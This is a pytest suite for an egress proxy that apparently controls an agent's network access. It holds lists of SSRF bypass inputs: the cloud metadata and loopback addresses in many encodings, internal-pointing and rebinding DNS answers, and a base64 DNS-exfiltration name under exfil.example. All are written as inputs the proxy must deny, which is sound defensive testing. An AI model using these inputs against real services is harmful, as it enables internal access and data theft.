"""Explicit proxy: HTTP forwarding, denials an agent can act on, and SSRF attempts (literal
encodings of internal addresses, hostile DNS answers, rebinding), none of which may reach an
internal address."""
import json
import socket
import time

import pytest

from conftest import curl, raw_request, recv_all


def test_allowed_request_reaches_upstream_as_origin_form(gateway, upstream):
    gateway.session()
    status, body = curl("-H", "X-Trace: 1", "http://web.test:8080/hello?q=secret")
    assert status == 200
    assert body == b"hello GET /hello?q=secret"
    req = upstream.requests[-1]
    assert req["target"] == "/hello?q=secret"
    assert req["headers"]["host"] == ["web.test:8080"]
    assert req["headers"]["x-trace"] == ["1"]
    assert "proxy-connection" not in req["headers"]
    opened = gateway.records(lambda r: any(x["event"] == "http.request" for x in r))
    open_rec = [r for r in opened if r["event"] == "connection.open"][0]
    assert open_rec["decision"] == "allow" and open_rec["rule"] == "web"
    assert open_rec["ip"] == "127.0.0.2" and open_rec["host"] == "web.test"
    http_rec = [r for r in opened if r["event"] == "http.request"][0]
    assert http_rec["path"] == "/hello?q=_", "query values must be redacted"
    assert http_rec["status"] == 200


def test_keep_alive_and_post_body(gateway, upstream):
    gateway.session()
    status, body = curl("-d", "payload=1", "http://web.test:8080/a", "http://web.test:8080/b")
    assert status == 200
    assert [r["target"] for r in upstream.requests[-2:]] == ["/a", "/b"]
    assert upstream.requests[-2]["body"] == b"payload=1"
    assert upstream.requests[-2]["method"] == "POST"


def test_chunked_request_body_is_reframed(gateway, upstream):
    gateway.session()
    status, _ = curl("-H", "Transfer-Encoding: chunked", "--data-binary", "abcdef",
                     "http://web.test:8080/upload")
    assert status == 200
    assert upstream.requests[-1]["body"] == b"abcdef"


@pytest.mark.parametrize("url,reason", [
    ("http://unknown.test:8080/", "host_not_allowed"),
    ("http://web.test:9999/", "port_not_allowed"),
    ("http://blocked.web.test:8080/", "host_denied"),
    ("http://api.test:8080/admin", "path_not_allowed"),
    ("http://api.test:8080/v1/%2e%2e/admin", "path_ambiguous"),
    ("http://tls.test:8443/", "protocol_not_allowed"),
])
def test_denials_carry_a_reason(gateway, upstream, url, reason):
    gateway.session()
    n = len(upstream.requests)
    status, body = curl("--path-as-is", url)
    assert status == 403
    j = json.loads(body)
    assert j["reason"] == reason
    assert j["session"] and j["hint"]
    assert len(upstream.requests) == n, "a denied request reached the upstream"
    recs = gateway.records(lambda r: any(x.get("reason") == reason for x in r))
    assert any(r["event"] == "connection.open" and r["decision"] == "deny" and
               r["reason"] == reason for r in recs)


def test_method_not_allowed(gateway):
    gateway.session()
    status, body = curl("-X", "DELETE", "http://api.test:8080/v1/items")
    assert status == 403 and json.loads(body)["reason"] == "method_not_allowed"


# The metadata and loopback addresses, spelled every way a URL parser or inet_aton accepts.
LITERALS = [
    ("169.254.169.254", "address_metadata"), ("2852039166", "address_metadata"),
    ("0xA9FEA9FE", "address_metadata"), ("0251.0376.0251.0376", "address_metadata"),
    ("169.254.43518", "address_metadata"), ("0xa9.0xfe.0xa9.0xfe", "address_metadata"),
    ("[::ffff:169.254.169.254]", "address_metadata"), ("[::ffff:a9fe:a9fe]", "address_metadata"),
    ("[64:ff9b::a9fe:a9fe]", "address_metadata"), ("[fd00:ec2::254]", "address_metadata"),
    ("100.100.100.200", "address_metadata"), ("169.254.170.2", "address_link_local"),
    # 127.0.0.0/29 is listed for other ports: decoding lands in the range, the port does not.
    ("127.1", "port_not_allowed"), ("127.9", "address_internal"),
    ("0177.0.0.9", "address_internal"), ("0x7f000009", "address_internal"),
    ("2130706441", "address_internal"), ("10.0.0.1", "address_internal"),
    ("0", "address_unroutable"), ("0.0.0.0", "address_unroutable"),
    ("[::]", "address_unroutable"), ("1.2.3.4.5", "host_ambiguous_address"),
]


@pytest.mark.parametrize("host,reason", LITERALS)
def test_ssrf_literals_are_denied_on_the_raw_wire(gateway, host, reason):
    gateway.session()
    resp = raw_request(f"GET http://{host}/latest/meta-data/ HTTP/1.1\r\nHost: {host}\r\n\r\n"
                       .encode())
    assert resp.startswith(b"HTTP/1.1 403 "), resp[:200]
    assert f"X-Airlock-Reason: {reason}".encode() in resp


@pytest.mark.parametrize("host", ["169.254.169.254", "2852039166", "0xA9FEA9FE", "[::ffff:169.254.169.254]"])
def test_ssrf_literals_via_connect(gateway, host):
    gateway.session()
    resp = raw_request(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    assert resp.startswith(b"HTTP/1.1 403 "), resp[:200]
    assert b"X-Airlock-Reason: address_metadata" in resp


# Allowed names whose DNS answers point inside.
HOSTILE_ANSWERS = [
    ([("A", "169.254.169.254", 60)], "address_metadata"),
    ([("A", "127.0.0.1", 60)], "address_internal"),  # listed range, but port 80 is not
    ([("A", "10.0.0.1", 60)], "address_internal"),
    ([("A", "0.0.0.0", 60)], "address_unroutable"),
    ([("A", "100.64.0.1", 60)], "address_internal"),
    ([("AAAA", "::ffff:169.254.169.254", 60)], "address_metadata"),
    ([("AAAA", "64:ff9b::a9fe:a9fe", 60)], "address_metadata"),
    ([("AAAA", "fd00:ec2::254", 60)], "address_metadata"),
    ([("CNAME", "inside.corp", 60), ("A", "10.0.0.1", 60)], "address_internal"),
]


@pytest.mark.parametrize("answer,reason", HOSTILE_ANSWERS)
def test_hostile_dns_answers_are_never_dialled(gateway, dns, answer, reason):
    gateway.session()
    dns.set("x.evil.test", answer)
    status, body = curl("http://x.evil.test/")
    assert status == 403, body
    assert json.loads(body)["reason"] == reason


def test_mixed_answers_dial_only_the_checked_public_address(gateway, dns):
    """An answer set mixing an internal and an allowed address: only the allowed one is dialled
    (here it refuses, so the client gets 502); the canary on 10.0.0.1 stays untouched."""
    gateway.session()
    dns.set("mixed.evil.test", [("A", "10.0.0.1", 60), ("A", "127.0.0.2", 60)])
    status, body = curl("http://mixed.evil.test:8080/x")
    assert status == 200, body
    rec = gateway.events("connection.open", host="mixed.evil.test")[0]
    assert rec["ip"] == "127.0.0.2"


def test_dns_rebinding_with_ttl_zero(gateway, dns, upstream):
    """The first answer is allowed; the next (TTL 0, so not cached) points at the metadata
    address: the second request is denied and nothing reaches 169.254.169.254."""
    gateway.session()
    answers = iter([[("A", "127.0.0.2", 0)], [("A", "169.254.169.254", 0)]])
    dns.set("rebind.evil.test", lambda: next(answers, [("A", "169.254.169.254", 0)]))
    assert curl("http://rebind.evil.test:8080/first")[0] == 200
    status, body = curl("http://rebind.evil.test:8080/second")
    assert status == 403 and json.loads(body)["reason"] == "address_metadata"
    assert upstream.requests[-1]["target"] == "/first"


def test_unresolvable_name_is_a_502_with_reason(gateway):
    gateway.session()
    status, body = curl("http://nxdomain.evil.test/")
    assert status == 502 and json.loads(body)["reason"] == "dns_failed"


def test_connection_without_session_gets_407(gateway):
    status, body = curl("http://web.test:8080/")
    assert status == 407
    assert json.loads(body)["reason"] == "unknown_session"


def test_origin_form_to_the_proxy_is_refused(gateway):
    gateway.session()
    resp = raw_request(b"GET / HTTP/1.1\r\nHost: web.test:8080\r\n\r\n")
    assert resp.startswith(b"HTTP/1.1 400 ") and b"not_absolute_form" in resp


def test_host_header_conflicting_with_url(gateway, upstream):
    gateway.session()
    n = len(upstream.requests)
    resp = raw_request(b"GET http://web.test:8080/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    assert resp.startswith(b"HTTP/1.1 400 ") and b"host_mismatch" in resp
    assert len(upstream.requests) == n


def test_websocket_upgrade_relays_after_101(gateway):
    gateway.session()
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(b"GET http://web.test:8080/ws HTTP/1.1\r\nHost: web.test:8080\r\n"
              b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    assert head.startswith(b"HTTP/1.1 101 ")
    s.sendall(b"ping-frame")
    assert s.recv(4096) == b"ping-frame"
    s.close()


def test_metrics_count_decisions(gateway):
    gateway.session()
    curl("http://web.test:8080/")
    curl("http://unknown.test:8080/")
    import urllib.request
    text = urllib.request.urlopen("http://127.0.0.1:9464/metrics", timeout=5).read().decode()
    assert 'airlock_decisions_total{decision="allow",reason="allowed"}' in text
    assert 'airlock_decisions_total{decision="deny",reason="host_not_allowed"}' in text
    assert "airlock_active_sessions 1" in text


def test_denied_names_are_never_resolved(gateway, dns):
    """The first decision is on the name: a name no rule allows never reaches the resolver, so
    the gateway cannot be used to leak data through DNS queries."""
    gateway.session()
    dns.queries.clear()
    secret = "c2VjcmV0LWRhdGE.exfil.example"
    assert curl(f"http://{secret}/")[0] == 403
    assert raw_request(f"CONNECT {secret}:443 HTTP/1.1\r\nHost: {secret}:443\r\n\r\n"
                       .encode()).startswith(b"HTTP/1.1 403 ")
    assert all(secret not in name for name, _ in dns.queries), dns.queries


def test_pipelined_requests_are_answered_in_order(gateway, upstream):
    gateway.session()
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(b"GET http://web.test:8080/one HTTP/1.1\r\nHost: web.test:8080\r\n\r\n"
              b"GET http://web.test:8080/two HTTP/1.1\r\nHost: web.test:8080\r\n\r\n"
              b"GET http://web.test:8080/three HTTP/1.1\r\nHost: web.test:8080\r\n"
              b"Connection: close\r\n\r\n")
    data = recv_all(s)
    s.close()
    bodies = [part.split(b"\r\n\r\n", 1)[1][:30] for part in data.split(b"HTTP/1.1 200 OK")[1:]]
    assert [b.split(b"HTTP")[0] for b in bodies] == [b"hello GET /one", b"hello GET /two",
                                                     b"hello GET /three"]


def test_next_checked_address_on_connect_failure(gateway, dns):
    """Two allowed answers, the first refuses: the gateway dials the second checked address,
    without a second lookup."""
    gateway.session()
    dns.set("two.evil.test", [("A", "127.0.0.5", 60), ("A", "127.0.0.2", 60)])
    dns.queries.clear()
    status, body = curl("http://two.evil.test:8080/fallback")
    assert status == 200, body
    assert [q for q in dns.queries if q[0] == "two.evil.test"] and \
        len([q for q in dns.queries if q[0] == "two.evil.test" and q[1] == 1]) == 1
    rec = gateway.records(lambda r: any(x["event"] == "connection.close" for x in r))
    closed = [r for r in rec if r["event"] == "connection.close"][0]
    assert closed["ip"] == "127.0.0.2"
